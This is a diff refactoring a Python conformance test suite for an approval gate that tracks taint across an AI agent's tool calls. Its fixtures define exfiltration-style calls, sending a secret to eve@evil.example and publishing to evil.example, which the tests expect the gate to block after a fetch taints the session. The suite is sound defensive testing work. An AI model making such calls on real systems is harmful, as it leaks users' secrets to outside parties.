@@ -5,22 +5,21 @@ answers {call id: what the model was told}. A test file is this mixin, a rig, an
 import asyncio
 import contextlib
 import json
-import threading
 import unittest.mock
 
 from interlock import ApprovalRequest, Gate, _core
-from toolbox import PAGE, POLICY, PROMPT, SECRET, Call, Toolbox, gate, turns
+from toolbox import PAGE, POLICY, PROMPT, SECRET, Call, Toolbox, gate, remembering, turns
 
 FETCH = Call("fetch", {"url": "https://garden.example"})
 READ = Call("read_secret")
 EVIL = Call("send", {"to": "eve@evil.example", "body": SECRET})
 GOOD = Call("send", {"to": "ana@example.org", "body": "a summary"})
 DELETE = Call("delete", {"name": "a"})
+PUBLISH = Call("publish", {"url": "https://evil.example", "text": "x"})
 
 
 class Conformance:
     rig = None  # a module with `play`
-    free = frozenset()  # rows that this framework has no way to show, each with its reason beside it
 
     def setUp(self):
         self.box = Toolbox()
@@ -111,7 +110,7 @@ class Conformance:
     # ---- several calls of one step ---------------------------------------------------------------------
 
     def test_two_calls_of_one_step_where_the_first_taints(self):
-        self.play(READ, [FETCH, Call("publish", {"url": "https://evil.example", "text": "x"})])
+        self.play(READ, [FETCH, PUBLISH])
         self.assertEqual(self.box.names(), ["read_secret", "fetch"])
 
     def test_calls_of_one_step_run_one_after_the_other(self):
@@ -125,7 +124,7 @@ class Conformance:
 
     def test_the_same_call_id_twice(self):
         with contextlib.suppress(Exception):  # some frameworks refuse it
-            self.play([FETCH._replace(id="same")], [READ._replace(id="same")], [Call("publish", {"url": "https://evil.example", "text": "x"}, id="same")])
+            self.play([FETCH._replace(id="same")], [READ._replace(id="same")], [PUBLISH._replace(id="same")])
         self.assertIn(self.box.names(), [["fetch", "read_secret"], ["fetch"]])
 
     # ---- results --------------------------------------------------------------------------------------
@@ -151,8 +150,7 @@ class Conformance:
         self.assertEqual(settled["how"], "done" if getattr(self.rig, "ANSWERS_ERRORS", False) else "failed")
 
     def test_the_text_of_an_error_is_remembered(self):
-        rules = [{"tools": "recall", "when": '"fail" in prov.value.sources', "then": "block", "name": "from-the-error"}]
-        with Gate({**POLICY, "tools": [*POLICY["tools"], {"match": "recall", "effects": [], "reads": ["value"]}], "rules": rules}) as strict:
+        with Gate(remembering("fail")) as strict:
             self.assertTrue(strict.decide("recall", {"value": PAGE}).run, "nobody said it yet")
             told = {}
             with contextlib.suppress(Exception):
@@ -260,7 +258,7 @@ class Conformance:
     def test_two_sessions_share_no_taint(self):
         other = self.gate.session()
         self.play(FETCH, READ)
-        self.play(Call("publish", {"url": "https://evil.example", "text": "x"}), gate=other)
+        self.play(PUBLISH, gate=other)
         self.assertEqual(self.box.names(), ["fetch", "read_secret", "publish"])
 
     def test_an_agent_within_an_agent(self):
@@ -274,7 +272,7 @@ class Conformance:
             told = await play(self.gate, functions, turns([FETCH, READ]))
             return json.dumps(told)
 
-        self.rig.play(self.gate, {**functions, "helper": helper}, turns(Call("helper"), Call("publish", {"url": "https://evil.example", "text": "x"})))
+        self.rig.play(self.gate, {**functions, "helper": helper}, turns(Call("helper"), PUBLISH))
         self.assertEqual(self.box.names(), ["helper", "fetch", "read_secret"])
 
     def test_cancelled_while_it_runs(self):
